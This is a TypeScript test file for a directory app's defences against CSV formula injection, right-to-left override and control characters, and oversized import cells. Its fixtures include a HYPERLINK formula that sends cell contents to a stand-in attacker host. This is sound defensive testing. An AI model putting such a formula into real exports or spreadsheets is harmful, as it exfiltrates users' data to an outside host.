import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runImport } from "../../seed/src/import/run-import";
import { DATABASES } from "../helpers/databases";
import { ROLE_KEYS, startTestStack, type TestStack } from "../helpers/stack";

const UPDATE = `mutation ($id: ID!, $version: Int!, $changes: RepresentationChanges!) { updateRepresentation(id: $id, version: $version, changes: $changes) { id version } }`;
const ID = "ht-mx-emb-mexico-city";
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")';
const HEADER = "id,sending_country_iso2,host_country_iso2,kind,city,address,latitude,longitude,concurrent_accreditation_iso2,phone,email,website,source_url,source_date";

/** Issue 19, findings 6 and 8: spreadsheet formulas, control and bidi characters, cells without limits. */
describe.each(DATABASES)("text that must not become a formula, a reversed name or a 100 MB cell (%s)", (db) => {
  let stack: TestStack;
  let as: Record<string, Record<string, string>>;
  const dir = mkdtempSync(join(tmpdir(), "enlace-text-"));
  beforeAll(async () => {
    stack = await startTestStack(db, { web: { frameOrigins: [], secureCookies: false, publicCacheControl: "public, max-age=60" } });
    as = await stack.callers(ROLE_KEYS);
  });
  afterAll(async () => {
    await stack?.stop();
    rmSync(dir, { recursive: true, force: true });
  });
  const version = async () => (await stack.query(`{ representation(id: "${ID}") { version } }`)).body.data.representation.version as number;
  const update = async (changes: Record<string, unknown>) => (await stack.query(UPDATE, { id: ID, version: await version(), changes }, as.secretariat)).body;

  it("refuses an e-mail that is a formula, and a control or right-to-left override character in any text, naming the field", async () => {
    const email = await update({ emails: ['=HYPERLINK("http://evil.example")@x.org'] });
    expect(email.errors?.[0]).toMatchObject({ extensions: { code: "BAD_USER_INPUT", field: "changes.emails[0]" } });
    const rlo = await update({ city: "Ciudad\u202Eelpmaxe" });
    expect(rlo.errors?.[0]?.extensions).toMatchObject({ code: "BAD_USER_INPUT", field: "changes.city" });
    expect(rlo.errors?.[0]?.message).toContain("U+202E");
    const nul = await update({ address: "Calle 1\u0000" });
    expect(nul.errors?.[0]?.extensions?.field).toBe("changes.address");
  });

  it("serves a formula-looking address in /directory.csv as text (a leading apostrophe), never as a formula", async () => {
    expect((await update({ address: FORMULA })).errors).toBeUndefined();
    const origin = new URL(stack.url).origin;
    const csv = await (await fetch(`${origin}/directory.csv?sender=HT&host=MX`)).text();
    const rows = parse(csv.replace(/^\uFEFF/, ""), { columns: true }) as Record<string, string>[];
    const row = rows.find((r) => r.id === ID);
    expect(row?.address).toBe(`'${FORMULA}`);
    // No text cell a spreadsheet would run; numbers (a longitude of -99.23) are numbers.
    expect(rows.flatMap((r) => Object.values(r)).filter((cell) => /^[=+\-@]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([]);
  });

  it("the import refuses a cell over the API's limit, a control character and a file over IMPORT_MAX_MB, and writes nothing", async () => {
    const before = await stack.subgraphs.directory.dataSource.query(`SELECT id, address, city, version FROM representation WHERE id = 'ht-mx-cons-tapachula'`);
    const file = join(dir, "cells-2024-05-01.csv");
    writeFileSync(
      file,
      [
        HEADER,
        `ht-mx-cons-tapachula,HT,MX,CONSULATE,Tapachula,${"x".repeat(501)},,,,,,,https://example.org/a,2024-05-01`,
        `ht-mx-emb-mexico-city,HT,MX,EMBASSY,Mexico\u202ECity,,19.4111,-99.2302,,,,,https://example.org/b,2024-05-01`,
      ].join("\n"),
    );
    const result = await runImport(stack.subgraphs.directory.dataSource, file, { format: "enlace", apply: true });
    expect(result.diff.rejected.map((r) => r.reason)).toEqual(["address: 501 characters, at most 500", "city: holds the control or bidirectional-override character U+202E"]);
    expect(await stack.subgraphs.directory.dataSource.query(`SELECT id, address, city, version FROM representation WHERE id = 'ht-mx-cons-tapachula'`)).toEqual(before);
    const previous = process.env.IMPORT_MAX_MB;
    process.env.IMPORT_MAX_MB = "0.0001";
    try {
      await expect(runImport(stack.subgraphs.directory.dataSource, file, { format: "enlace", apply: true })).rejects.toThrow(/over the limit of 0 MB \(IMPORT_MAX_MB\); split the file/);
    } finally {
      if (previous === undefined) delete process.env.IMPORT_MAX_MB;
      else process.env.IMPORT_MAX_MB = previous;
    }
  });
});
